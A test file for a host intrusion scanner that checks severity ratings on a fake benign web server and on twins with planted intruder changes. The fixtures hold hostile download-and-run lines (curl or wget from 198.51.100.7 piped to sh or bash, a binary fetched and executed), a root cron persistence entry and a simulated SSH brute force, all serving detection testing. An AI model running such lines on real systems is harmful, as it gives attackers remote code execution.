import assert from 'node:assert/strict';
import fs from 'node:fs';
import { after, describe, it } from 'node:test';
import { atLeast } from '../src/model/finding';
import { scanFixture as scan } from './helpers/scan-fixture';
import { benignNow, buildBenignServer, DEPLOY_KEY_LINE, DEBIAN_ROOT, hasDebianRoot } from './helpers/benign-server';
import { FakeRoot } from './helpers/fake-root';
import { sshd, syslogLines } from './helpers/auth-log';

// Severity comes from combined evidence: a busy, honest web server built on the clean Debian tree
// is full of things that each look like one weak sign of an intrusion. None may reach medium.
// Its twins change one thing each into what an intruder does, and must be reported high or above.

const roots: FakeRoot[] = [];
after(() => {
  for (const r of roots) r.remove();
});

function skipWithoutTree(t: { skip(msg: string): void }): boolean {
  if (hasDebianRoot()) return false;
  if (process.env.CI) assert.fail(`clean Debian tree missing at ${DEBIAN_ROOT}: .ci/run builds it`);
  t.skip(`no clean Debian tree at ${DEBIAN_ROOT} (run .ci/run or set HOSTSWEEP_DEBIAN_ROOT)`);
  return true;
}

type Found = { severity: Parameters<typeof atLeast>[0]; rule: string; path?: string; title: string; evidence: string[] };
const line = (f: Found) => `${f.severity} ${f.rule} ${f.path ?? '-'}`;

describe('a benign busy web server', () => {
  it('raises nothing at medium or above, and reports the look-alikes as low', async (t) => {
    if (skipWithoutTree(t)) return;
    const now = benignNow();
    const root = buildBenignServer(now);
    roots.push(root);
    const { result } = await scan({ root: root.dir, now, sampleMs: 0 });
    assert.equal(result.stats.ruleErrors.length, 0, JSON.stringify(result.stats.ruleErrors));
    assert.deepEqual(
      result.findings.filter((f) => atLeast(f.severity, 'medium')).map((f) => `${line(f)}: ${f.title}`),
      [],
    );
    const low = result.findings
      .filter((f) => f.severity === 'low')
      .map(line)
      .sort();
    for (const expected of [
      'low accounts/new-login-account /etc/passwd',
      'low accounts/root-password-changed /etc/shadow',
      'low files/executable-in-temp /var/tmp/ci-build-4711/build.sh',
      'low files/unowned-system-executable /usr/local/bin/kubectl',
      'low logs/ssh-bruteforce -',
      'low ssh/authorized-keys-recent /home/deploy/.ssh/authorized_keys',
      'low ssh/forced-command-key /home/deploy/.ssh/authorized_keys',
    ])
      assert.ok(low.includes(expected), `${expected} in ${JSON.stringify(low)}`);
    const hook = result.findings.find((f) => f.rule === 'ssh/forced-command-key');
    assert.match(
      hook?.evidence.join('\n') ?? '',
      /\/usr\/local\/bin\/deploy-hook: uid 0, mode 0755, directory mode 0755, no package owns it/,
    );
    assert.match(hook?.evidence.join('\n') ?? '', /deploy-hook: \d+ line\(s\) read, no download-and-execute, reverse shell or miner line/);
    const keys = result.findings.find((f) => f.rule === 'ssh/authorized-keys-recent');
    assert.match(keys?.title ?? '', /review with the key owners/);
  });

  it('its twins, one intruder change each, are reported high or above', async (t) => {
    if (skipWithoutTree(t)) return;
    const now = benignNow();
    const root = buildBenignServer(now, 'hostsweep-benign-twin-');
    roots.push(root);
    const day = new Date(now.getTime() - 2 * 86_400_000);
    // The deploy hook now fetches and runs a payload.
    root.write(
      '/usr/local/bin/deploy-hook',
      `${fs.readFileSync(root.p('/usr/local/bin/deploy-hook'), 'utf8')}curl -fsSL http://198.51.100.7/k | sh\n`,
      {
        mode: 0o755,
      },
    );
    // The CI job script downloads a binary from a bare address and runs it.
    root.write(
      '/var/tmp/ci-build-4711/build.sh',
      '#!/bin/bash\nmake -j4\ncurl -s http://198.51.100.7/b -o /var/tmp/ci-build-4711/b\nchmod +x /var/tmp/ci-build-4711/b\n/var/tmp/ci-build-4711/b\n',
      { mode: 0o755, mtime: day },
    );
    // A harmless-looking job script that root's cron runs every minute.
    root
      .write('/var/tmp/ci-build-4712/run.sh', '#!/bin/sh\nmake -C /var/tmp/ci-build-4712\n', { mode: 0o755, mtime: day })
      .write('/etc/cron.d/ci-cache', '* * * * * root /var/tmp/ci-build-4712/run.sh\n', { mtime: day });
    // A brute force that worked, then the deploy key file changed.
    const auth = [
      ...Array.from({ length: 40 }, (_, i) => sshd.failed('deploy', '203.0.113.77', 50000 + i)),
      sshd.accepted('deploy', '203.0.113.77'),
    ];
    root.write(
      '/var/log/auth.log',
      fs.readFileSync(root.p('/var/log/auth.log'), 'utf8') + syslogLines(new Date(day.getTime() + 3600_000), auth),
      {
        mtime: new Date(day.getTime() + 7200_000),
      },
    );
    const { result } = await scan({ root: root.dir, now, sampleMs: 0 });
    const found = result.findings.map(line);
    for (const expected of [
      'critical ssh/forced-command-key /home/deploy/.ssh/authorized_keys',
      'high files/executable-in-temp /var/tmp/ci-build-4711/build.sh',
      'high persistence/cron-suspicious-target /etc/cron.d/ci-cache',
      'high ssh/authorized-keys-recent /home/deploy/.ssh/authorized_keys',
    ])
      assert.ok(found.includes(expected), `${expected} in ${JSON.stringify(found.filter((f) => !f.startsWith('info')))}`);
    const keys = result.findings.find((f) => f.rule === 'ssh/authorized-keys-recent');
    assert.match(keys?.evidence.join('\n') ?? '', /signal: deploy logged in from 203\.0\.113\.77 at \S+ after \d+ failed attempts/);
  });
});

describe('a restricted deploy key, judged by the program it runs on the target', () => {
  const NOW = new Date('2026-11-20T12:00:00Z');
  const OLD = new Date('2026-06-01T12:00:00Z');
  const HOOK = '#!/bin/sh\nset -eu\ncd /srv/app && git pull --ff-only && npm ci --omit=dev\n';

  /** A small root with the deploy account and its key; `plant` changes the hook. */
  async function verdict(plant: (r: FakeRoot) => void): Promise<{ severity: string; evidence: string }[]> {
    const r = new FakeRoot().base();
    roots.push(r);
    r.write('/etc/passwd', `${fs.readFileSync(r.p('/etc/passwd'), 'utf8')}deploy:x:1001:1001::/home/deploy:/bin/bash\n`, { mtime: OLD })
      .write('/etc/shadow', `${fs.readFileSync(r.p('/etc/shadow'), 'utf8')}deploy:!:19000:0:99999:7:::\n`, { mode: 0o640, mtime: OLD })
      .write('/home/deploy/.ssh/authorized_keys', DEPLOY_KEY_LINE, { mode: 0o600, mtime: OLD })
      .write('/usr/local/bin/deploy-hook', HOOK, { mode: 0o755, mtime: OLD });
    plant(r);
    const { result } = await scan({ root: r.dir, now: NOW, sampleMs: 0 });
    return result.findings
      .filter((f) => f.rule === 'ssh/forced-command-key')
      .map((f) => ({ severity: f.severity, evidence: f.evidence.join('\n') }));
  }

  it('a root-owned hook nobody else can write, with nothing dangerous in it: low', async () => {
    const [f] = await verdict(() => {});
    assert.equal(f?.severity, 'low');
    assert.match(f.evidence, /\/usr\/local\/bin\/deploy-hook: uid 0, mode 0755/);
  });

  it('the same hook, world-writable: high', async () => {
    const [f] = await verdict((r) => fs.chmodSync(r.p('/usr/local/bin/deploy-hook'), 0o777));
    assert.equal(f?.severity, 'high');
    assert.match(f.evidence, /can be rewritten by any account \(mode 0777/);
  });

  it('the same hook, owned by the deploy account: high', async () => {
    const [f] = await verdict((r) => fs.chownSync(r.p('/usr/local/bin/deploy-hook'), 1001, 1001));
    assert.equal(f?.severity, 'high');
    assert.match(f.evidence, /belongs to uid 1001, not root/);
  });

  it('the same hook, downloading and running a payload: critical', async () => {
    const [f] = await verdict((r) =>
      r.write('/usr/local/bin/deploy-hook', `${HOOK}wget -qO- http://198.51.100.7/x | bash\n`, { mode: 0o755 }),
    );
    assert.equal(f?.severity, 'critical');
    assert.match(f.evidence, /wget -qO- http:\/\/198\.51\.100\.7\/x \| bash/);
  });

  it('the same options with the command in /tmp: critical', async () => {
    const [f] = await verdict((r) =>
      r
        .write('/home/deploy/.ssh/authorized_keys', DEPLOY_KEY_LINE.replace('/usr/local/bin/deploy-hook', '/tmp/deploy-hook'), {
          mode: 0o600,
          mtime: OLD,
        })
        .write('/tmp/deploy-hook', HOOK, { mode: 0o755 }),
    );
    assert.equal(f?.severity, 'critical');
  });
});
